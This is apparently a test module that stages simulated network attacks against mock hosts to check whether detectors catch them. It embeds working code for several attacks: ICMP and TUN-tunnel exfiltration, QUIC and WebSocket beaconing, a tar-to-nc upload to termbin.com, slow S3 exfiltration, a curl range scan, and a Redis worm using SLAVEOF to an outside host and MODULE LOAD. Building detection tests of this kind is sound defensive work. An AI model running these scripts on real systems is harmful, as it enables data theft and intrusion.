"""Blind, the third lot: written without a look at the detectors. What leaves, calls home, and ways on inside."""

from __future__ import annotations

import os
import random
import socket

from proving.hosts import Asked, Reply
from proving.keys import environment
from proving.scenario import Must, Repeat, attack
from proving.scenarios.held_more import Framed
from proving.scenarios.movement import talk
from proving.world import ScenarioError, World

NOT = ("port-scan", "lateral-movement", "cryptomining")
MAY = ("unexpected-process", "baseline-deviation", "beaconing")
PORTAL, BACKUP = "portal.service", "backup.service"

ECHO_REPLIES = r"""
use Socket;
my ($host, $file) = @ARGV;
socket(S, PF_INET, SOCK_RAW, 1) or die $!;
open(my $in, '<:raw', $file) or die $!;
my $to = sockaddr_in(0, inet_aton($host));
my $n = 0;
while (read($in, my $body, 1200)) {
    my $packet = pack('CCnnn', 0, 0, 0, 4711, $n & 0xffff) . $body;
    my $sum = unpack('%32n*', $packet);
    $sum = ($sum >> 16) + ($sum & 0xffff);
    substr($packet, 2, 2) = pack('n', ~($sum + ($sum >> 16)) & 0xffff);
    send(S, $packet, 0, $to) or die $!;
    select(undef, undef, undef, 0.02) unless ++$n % 10;
}
print "sent $n\n";
"""


@attack(
    "blind3-icmp-replies",
    "a Perl script takes a table of 5 MB out in echo replies that nobody asked for",
    must=(Must("data-exfiltration", BACKUP, "203.0.113.210"),),
    may=("dns-tunnel", "blind-spot", *MAY),
    must_not=NOT,
    tools=("perl",),
)
def icmp_replies(world: World) -> None:
    """As icmpsh and ptunnel's answering side do: filters often let replies through, and look at requests alone."""
    world.file("/srv/backup/customers.dump", os.urandom(4_800_000))
    path = world.file("/srv/backup/lib/Check/Reach.pl", ECHO_REPLIES)
    world.mark()
    said = world.run("perl", path, "203.0.113.210", "/srv/backup/customers.dump", unit=BACKUP)
    if "sent 4000" not in said:
        raise ScenarioError(said)


TUNNEL = """
import fcntl, os, socket, struct, subprocess, sys
tun = os.open('/dev/net/tun', os.O_RDWR)
fcntl.ioctl(tun, 0x400454ca, struct.pack('16sH22x', b'utun7', 0x1001))
for words in ('addr add 10.200.0.2/24 dev utun7', 'link set utun7 mtu 1300 txqueuelen 10000 up',
              'route add 192.0.2.0/24 dev utun7'):
    subprocess.run(['ip', *words.split()], check=True)
peer = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
peer.connect((sys.argv[1], 4500))
turned = bytes(byte ^ 0x5a for byte in range(256))
print('up', flush=True)
sent = told = 0
while True:
    packet = os.read(tun, 2000)
    sent += peer.send(b'\\x5a\\x01\\0\\0' + packet.translate(turned))
    if sent > told + 1_000_000:
        told = sent
        print(sent, flush=True)
"""


@attack(
    "blind3-exfil-tun",
    "a program makes a tunnel of its own with a route to a foreign network; 12 MB that a shell sends there leave inside it",
    must=(Must("data-exfiltration", BACKUP),),
    may=("blind-spot", "dns-tunnel", *MAY),
    must_not=NOT,
    tools=("ip", "dd", "bash"),
)
def tun(world: World) -> None:
    """On the cable there are datagrams to one host's port 4500 alone, as of IPsec."""
    end = world.host("203.0.113.211")
    end.udp(4500, lambda data: b"")
    world.file("/srv/backup/archive.bin", os.urandom(12_000_000))
    tunnel = world.script(world.file("/srv/backup/lib/netd.py", TUNNEL), "203.0.113.211", unit=BACKUP)
    world.wait(lambda: "up" in tunnel.said() or tunnel.done.is_set(), "no tunnel")
    if tunnel.done.is_set():
        raise ScenarioError(tunnel.said())
    world.sleep(1.0)
    world.mark()
    dd = "dd if=/srv/backup/archive.bin bs=1000 skip=$((n * 2000)) count=2000 > /dev/udp/192.0.2.40/514"
    world.run("bash", "-c", f"for n in 0 1 2 3 4 5; do {dd}; sleep 0.8; done", unit=BACKUP)
    world.sleep(1.0)
    tunnel.stop()
    if int(tunnel.said().split()[-1]) < 10_500_000:
        raise ScenarioError(f"{tunnel.said()} {end.received} bytes arrived")


QUIC = r"""
use IO::Socket::INET;
my ($name, $count) = @ARGV;
srand(7);
for my $n (1 .. $count) {
    my $s = IO::Socket::INET->new(PeerAddr => $name, PeerPort => 443, Proto => 'udp') or die $@;
    $s->send("\xc3\x00\x00\x00\x01\x08" . join('', map { chr int rand 256 } 1 .. 1194));
    $s->recv(my $answer, 2000);
    $s->send("\x43" . join('', map { chr int rand 256 } 1 .. 40 + rand 30));
    $s->recv($answer, 2000);
    close $s;
    select(undef, undef, undef, 1.6 * (0.7 + 0.6 * rand));
}
print "done\n";
"""


@attack(
    "blind3-beacon-quic",
    "a Perl script calls home over datagrams to port 443 that look like QUIC, every 1.6 seconds, give or take 30 %",
    must=(Must("beaconing", PORTAL, "media-cdn.example", within=8 * 1.6 * 1.3 + 1),),
    may=("unexpected-process", "baseline-deviation", "blind-spot"),
    must_not=(*NOT, "data-exfiltration"),
    tools=("perl",),
)
def quic(world: World) -> None:
    edge = world.host("203.0.113.212", "edge.media-cdn.example")
    calls: list[int] = []

    def answer(data: bytes) -> bytes:
        calls.append(len(data))
        return b"\xc2" + os.urandom(1199) if len(data) == 1200 else b"\x41" + os.urandom(35)

    edge.udp(443, answer)
    path = world.file("/srv/portal/.cache/prefetch.pl", QUIC)
    world.mark()
    world.run("perl", path, "edge.media-cdn.example", "15", unit=PORTAL)
    assert len(calls) == 30, calls


WEBSOCKET = r"""<?php
$s = stream_socket_client("tcp://$argv[1]:80");
$key = base64_encode(random_bytes(16));
fwrite($s, "GET /live?v=2 HTTP/1.1\r\nHost: $argv[1]\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    . "Sec-WebSocket-Key: $key\r\nSec-WebSocket-Version: 13\r\n\r\n");
if (strpos(fread($s, 4096), ' 101 ') === false) exit(1);
mt_srand(5);
for ($n = 0; $n < (int)$argv[2]; $n++) {
    $mask = random_bytes(4);
    $text = json_encode(['i' => bin2hex(random_bytes(random_int(3, 9))), 's' => 'idle']);
    fwrite($s, chr(0x81) . chr(0x80 | strlen($text)) . $mask . ($text ^ str_pad('', strlen($text), $mask)));
    if (!fread($s, 200)) exit(2);
    usleep((int)(1.6e6 * (0.7 + 0.6 * mt_rand() / mt_getrandmax())));
}
echo "done\n";
"""


@attack(
    "blind3-beacon-websocket",
    "a PHP script holds a WebSocket to a strange host and says every 1.6 seconds, give or take 30 %, that it is idle",
    must=(Must("beaconing", PORTAL, "live-stats.example", within=8 * 1.6 * 1.3 + 1),),
    may=("unexpected-process", "baseline-deviation"),
    must_not=(*NOT, "data-exfiltration"),
    tools=("php",),
)
def websocket(world: World) -> None:
    heard: list[bytes] = []

    def serve(connection: socket.socket) -> None:
        framed = Framed(connection)
        while data := framed.recv(4096):
            heard.append(data)
            framed.sendall(b'{"t":0}')

    world.host("203.0.113.213", "ws.live-stats.example").listen(80, serve)
    path = world.file("/srv/portal/var/cache/pool.php", WEBSOCKET)
    world.mark()
    said = world.run("php", path, "ws.live-stats.example", "15", unit=PORTAL)
    if "done" not in said or len(heard) != 15:
        raise ScenarioError(f"{said} {heard}")


@attack(
    "blind3-exfil-termbin",
    "a web application's shell packs a folder and hands 600 kB to a paste service that takes it from nc",
    must=(Must("data-exfiltration", PORTAL, "termbin.com"),),
    may=MAY,
    must_not=NOT,
    tools=("ncat", "nc", "tar", "base64"),
)
def termbin(world: World) -> None:
    kept: list[int] = []

    def serve(connection: socket.socket) -> None:
        size = 0
        while data := connection.recv(65536):
            size += len(data)
        kept.append(size)
        connection.sendall(b"https://termbin.com/x9q2\n")

    world.host("198.51.100.213", "termbin.com").listen(9999, serve)
    for number in range(6):
        world.file(f"/srv/portal/uploads/contract-{number}.pdf", os.urandom(75_000))
    world.mark()
    said = world.run("sh", "-c", "tar -C /srv/portal/uploads -cz . | base64 | nc termbin.com 9999; true", unit=PORTAL)
    if not kept or kept[0] < 600_000 or "x9q2" not in said:
        raise ScenarioError(f"{kept} {said}")


MULTIPART = """
import boto3, sys, time
from botocore.config import Config
config = Config(s3={'addressing_style': 'path'}, request_checksum_calculation='when_required', retries={'max_attempts': 1})
client = boto3.client('s3', endpoint_url=sys.argv[1], region_name='eu-central-2', config=config)
where = {'Bucket': 'bk-7f31', 'Key': 'w/set.bin'}
upload = client.create_multipart_upload(**where)['UploadId']
with open(sys.argv[2], 'rb') as file:
    for number in range(1, 5):
        client.upload_part(Body=file.read(262144), PartNumber=number, UploadId=upload, **where)
        time.sleep(3)
print('done')
"""


@attack(
    "blind3-exfil-parts-drip",
    "boto3 puts a data set into a stranger's bucket at another storage provider: 256 kB every 15 s, ± 40 %, for an hour",
    must=(Must("data-exfiltration", "analytics.service", "wasabisys.com", within=620.0),),
    may=("beaconing", "baseline-deviation"),
    must_not=NOT,
    minutes=60.0,
    repeats={"part": Repeat(15.0, 0.4)},
)
def parts_drip(world: World) -> None:
    """The parts of one upload, as rclone and aws s3 cp send them, only slowly. Ten megabytes are gone after 39 parts."""

    def serve(asked: Asked) -> Reply:
        if asked.method == "POST":
            body = "<InitiateMultipartUploadResult><UploadId>u1</UploadId></InitiateMultipartUploadResult>"
            return Reply(body, kind="application/xml")
        return Reply(b"", headers={"ETag": '"9b2cf535f27731c974343645a3985328"'})

    bucket = world.host("198.51.100.214", "s3.eu-central-2.wasabisys.com")
    bucket.http(443, serve, tls=True)
    world.file("/srv/analytics/set.bin", os.urandom(1 << 20))
    path = world.file("/srv/analytics/lib/rotate.py", MULTIPART)
    keys = {name: environment()[name] for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY")}
    world.mark()
    words = ("https://s3.eu-central-2.wasabisys.com", "/srv/analytics/set.bin")
    actor = world.script(path, *words, env=keys, unit="analytics.service")
    world.wait(lambda: len(bucket.requests) == 3 or actor.done.is_set(), "the second part does not come", 20)
    world.sleep(1.5)
    with world.loop("part"):
        world.sleep(3.0)
    actor.wait()
    if "done" not in actor.said() or bucket.received != 1 << 20:
        raise ScenarioError(f"{bucket.received} {actor.said()}")


@attack(
    "blind3-scan-curl-range",
    "a web application's shell has one curl, with a range for an address, ask 45 hosts inside for models, six a second",
    must=(Must("port-scan", PORTAL, within=5.0),),
    may=("lateral-movement", "unexpected-process", "baseline-deviation", "new-ai-destination", "model-enumeration"),
    must_not=("beaconing", "data-exfiltration", "cryptomining"),
    tools=("curl",),
)
def curl_range(world: World) -> None:
    """Twenty hosts are tried after 3.3 seconds; half a second before that and one for the tick."""
    model = world.host("10.77.70.33")
    model.http(8000, lambda asked: Reply({"object": "list", "data": [{"id": "llama3.1:8b", "object": "model"}]}))
    world.mark()
    line = "curl -s -m 20 --connect-timeout 1 --rate 6/s 'http://10.77.70.[1-45]:8000/v1/models'; true"
    world.run("sh", "-c", line, unit=PORTAL)
    assert len(model.requests) == 1


WORM = r"""<?php
foreach (array_slice($argv, 1) as $host) {
    $s = stream_socket_client("tcp://$host:6379", $number, $text, 2);
    foreach (['INFO server', 'CONFIG SET dir /var/spool/cron/', 'CONFIG SET dbfilename root', 'SLAVEOF 203.0.113.221 21000',
              'MODULE LOAD /tmp/exp.so', 'SLAVEOF NO ONE'] as $order) {
        fwrite($s, "$order\r\n");
        if (!fread($s, 4096)) exit(1);
    }
    fclose($s);
    usleep(1100000);
}
echo "done\n";
"""


@attack(
    "blind3-lateral-redis-worm",
    "a web application's PHP has nine Redis servers inside that it never talked to follow a foreign one and load a module",
    imitates="P2PInfect and HeadCrab: Redis replication as the way on",
    must=(Must("lateral-movement", PORTAL),),
    may=("port-scan", "unexpected-process", "baseline-deviation"),
    must_not=("beaconing", "data-exfiltration", "cryptomining"),
    tools=("php",),
)
def redis_worm(world: World) -> None:
    hosts = [f"10.77.{80 + n % 3}.{9 + 7 * n}" for n in range(9)]
    for host in hosts:
        world.host(host).listen(6379, talk)
    random.Random("redis").shuffle(hosts)
    path = world.file("/srv/portal/var/cache/session.php", WORM)
    world.mark()
    said = world.run("sh", "-c", f"php {path} {' '.join(hosts)}; true", unit=PORTAL)
    if "done" not in said:
        raise ScenarioError(said)
